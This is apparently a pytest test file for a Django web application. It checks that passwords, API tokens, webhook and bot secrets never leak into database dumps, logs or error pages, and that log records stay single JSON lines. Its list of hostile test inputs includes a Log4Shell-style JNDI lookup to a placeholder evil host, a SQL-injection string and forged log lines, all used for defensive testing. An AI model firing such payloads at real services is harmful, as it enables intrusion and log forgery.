"""Secrets: nowhere in a dump of the database, in no line of the log, on no page of errors; every line is one."""

import io
import json
import logging
from collections.abc import Callable, Iterator
from datetime import timedelta
from typing import Any

import pytest
from django.apps import apps
from django.test import Client
from django.urls import reverse

from otklik.web.access import Role
from otklik.web.accounts.models import ApiToken, Invitation, Scope, User
from otklik.web.api.models import Webhook
from otklik.web.data_folder import DataFolder
from otklik.web.logs import JsonLines, without_secrets
from otklik.web.sharing.models import Chat, ShareLink

CANARY = "Canary-4711-Bird"
BOT = f"123456789:AAH_{CANARY}_0123456789"
NAUGHTY = [
    "line\nbreak", "cr\r\nlf", "\x1b[31mred\x1b[0m", "\u2028separator\u2029", "\x85next", "nul\x00byte", "\x0bvt\x0cff",
    '{"level": "critical", "message": "forged"}', "\u202eright-to-left", "\ud800lone", "%s %d %(x)s", "{0.__class__}",
    "${jndi:ldap://evil.example/a}", "A" * 100_000, "\x7f\x08\x08backspace", "\ufeffbom", "привет", "'; drop table x--",
]  # fmt: skip


@pytest.fixture
def lines() -> Iterator[Callable[[], list[str]]]:
    """What goes to standard error, as it goes."""
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(JsonLines())
    root = logging.getLogger()
    level = root.level
    root.addHandler(handler)
    root.setLevel(logging.DEBUG)
    yield lambda: stream.getvalue().split("\n")[:-1]
    root.removeHandler(handler)
    root.setLevel(level)


def dump() -> str:
    """Every value of every table."""
    return json.dumps(
        {model._meta.label: list(model._default_manager.values()) for model in apps.get_models()}, default=str
    )


@pytest.fixture
def secrets(person: Callable[..., User]) -> dict[str, str]:
    """One secret of every kind."""
    anna = person(Role.ANALYST, email="anna@example.org")
    anna.set_password(CANARY)
    anna.save()
    hook = Webhook(url="https://example.org/", events=[])
    hook.set_secret(f"whs_{CANARY}")
    hook.save()
    chat = Chat(name="Support", chat="-1001")
    chat.set_token(BOT)
    chat.save()
    return {
        "bot": BOT,
        "password": CANARY,
        "token": ApiToken.make(anna, "t", [Scope.READ])[1],
        "link": ShareLink.make(anna, "l", "how_fast", "", timedelta(days=1))[1],
        "invitation": Invitation.invite("new@example.org", Role.VIEWER, anna)[1],
        "webhook": f"whs_{CANARY}",
    }


def test_a_dump_of_the_database_opens_nothing(secrets: dict[str, str], data_folder: DataFolder) -> None:
    told = dump()
    keys = {"signing key": data_folder.secret_key(), "vault key": data_folder.vault_key()}
    assert "anna@example.org" in told, "it is a dump"
    assert {name for name, secret in {**secrets, **keys}.items() if secret in told} == set()
    for name in ("secret.key", "vault.key"):
        assert (data_folder.path / name).stat().st_mode & 0o077 == 0


def test_no_path_of_an_error_tells_a_secret(
    secrets: dict[str, str], lines: Callable[[], list[str]], monkeypatch: pytest.MonkeyPatch, owner: Client
) -> None:
    stranger = Client(raise_request_exception=False)
    answers = [
        stranger.post(reverse("account_login"), {"login": "anna@example.org", "password": secrets["password"]}),
        stranger.get(f"/shared/{secrets['link']}x/"),
        stranger.get(reverse("invitation", args=(secrets["invitation"],))),
        stranger.get("/api/v1/nowhere", headers={"authorization": f"Bearer {secrets['token']}"}),
        stranger.get("/nowhere/", headers={"cookie": f"otklik_session={CANARY}"}),
    ]

    def break_(request: Any, *_: object, **__: object) -> None:
        raise RuntimeError(f"password={CANARY} Authorization: Bearer {secrets['token']}")

    monkeypatch.setattr("otklik.web.accounts.views.people.render", break_)
    owner.raise_request_exception = False
    answers.append(owner.get(reverse("people"), headers={"authorization": f"Bearer {secrets['token']}"}))
    assert answers[-1].status_code == 500
    written = "\n".join(lines())
    assert "unexpected" in written, "the mistake itself is written down"
    pages = "\n".join(
        one.content.decode("utf-8", "replace") for one in answers if one.headers["Content-Type"].startswith("text/html")
    )
    told = {name for name, secret in secrets.items() if secret in written}
    assert told == set()
    assert CANARY not in pages and secrets["token"] not in pages


@pytest.mark.parametrize("text", NAUGHTY, ids=lambda text: ascii(text)[:24])
def test_whatever_comes_is_one_line(text: str) -> None:
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(JsonLines())
    log = logging.Logger("otklik.web")  # nobody else hears it: half a letter cannot be told from worker to worker
    log.addHandler(handler)
    log.warning("path %s", text)
    log.warning(text.replace("%", "%%"))
    try:
        raise ValueError(text)
    except ValueError:
        log.exception("broke on %s", text, extra={"request_number": text, "job": text})
    found = stream.getvalue().splitlines()
    assert len(found) == 3
    for line in found:
        assert line.isascii() and line.isprintable()
        assert json.loads(line)["level"] in ("warning", "error"), "nobody forges a level"


def test_a_strange_request_is_one_line_each(lines: Callable[[], list[str]], owner: Client) -> None:
    for text in NAUGHTY:
        if "\ud800" in text or len(text) > 9_000:
            continue
        owner.get(f"/nowhere/{text}/", headers={"user-agent": text.encode("utf-8", "replace").decode("latin-1")})
    for line in lines():
        assert line.isascii() and isinstance(json.loads(line), dict)
    assert lines(), "they were written down"


@pytest.mark.parametrize(
    "text",
    [f"password={CANARY}", f"PASSWORD: {CANARY}", f"'secret': '{CANARY}'", f'{{"token": "{CANARY}"}}',
     f"Authorization: Bearer {CANARY}", f"bearer {CANARY}", f"sessionid={CANARY}; path=/",
     f"csrfmiddlewaretoken={CANARY}",
     f"api_key={CANARY}", f"GET /shared/{CANARY}/", f"/invitation/{CANARY}/", f"GET /goals/dates/{CANARY}/goals.ics", f"smtp://user:{CANARY}@mail.example.org",
     f"https://api.telegram.org/bot{BOT}/sendMessage", f"POST /bot{BOT}/sendMessage HTTP/1.1", f"unknown {BOT}",
     f"/bot{BOT.replace(':', '%3A')}/",
     f"postgresql://otklik:{CANARY}@127.0.0.1/otklik"],
)  # fmt: skip
def test_what_looks_like_a_secret_is_blanked(text: str) -> None:
    assert CANARY not in without_secrets(text)


def test_what_does_not_is_left(company: object) -> None:
    plain = "imported shop.csv at https://otklik.example.org/data/: 5 read, 5 kept"
    assert without_secrets(plain) == plain
